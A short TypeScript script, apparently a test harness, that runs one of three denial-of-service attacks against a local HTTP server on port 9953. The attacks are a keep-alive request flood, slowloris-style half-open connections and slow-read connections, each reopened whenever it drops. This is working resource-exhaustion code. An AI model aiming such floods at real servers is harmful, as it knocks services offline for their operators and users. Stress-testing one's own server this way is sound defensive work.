// Does one thing to the HTTP side of the server in this machine, until it is ended.
import http from "node:http";
import net from "node:net";

const PORT = 9953;
const HOST = "127.0.0.1";
const REQUEST = `GET / HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`;

function flood(connections: number): void {
  const agent = new http.Agent({ keepAlive: true, maxSockets: connections });
  const ask = (): void => {
    const request = http.get({ host: HOST, port: PORT, path: "/metrics", agent }, (response) => {
      response.resume();
      response.on("close", ask);
    });
    request.on("error", () => void setTimeout(ask, 10));
  };
  for (let i = 0; i < connections; i++) ask();
}

/** Opened anew when it is closed. */
function hold(connections: number, use: (socket: net.Socket) => void): void {
  const open = (): void => {
    const socket = net.connect({ host: HOST, port: PORT }, () => use(socket));
    socket.on("error", () => undefined);
    socket.on("close", () => void setTimeout(open, 10));
  };
  for (let i = 0; i < connections; i++) open();
}

function readSlowly(socket: net.Socket): void {
  socket.pause();
  socket.write(REQUEST);
  const reading = setInterval(() => socket.read(1), 1000);
  socket.on("close", () => clearInterval(reading));
}

const attacks: Readonly<Record<string, () => void>> = {
  flood: () => flood(16),
  halfOpen: () => hold(200, (socket) => void socket.write(REQUEST.slice(0, -2))),
  slow: () => hold(64, readSlowly),
};
const [, , attack = ""] = process.argv;
attacks[attack]?.();
console.log("ready");
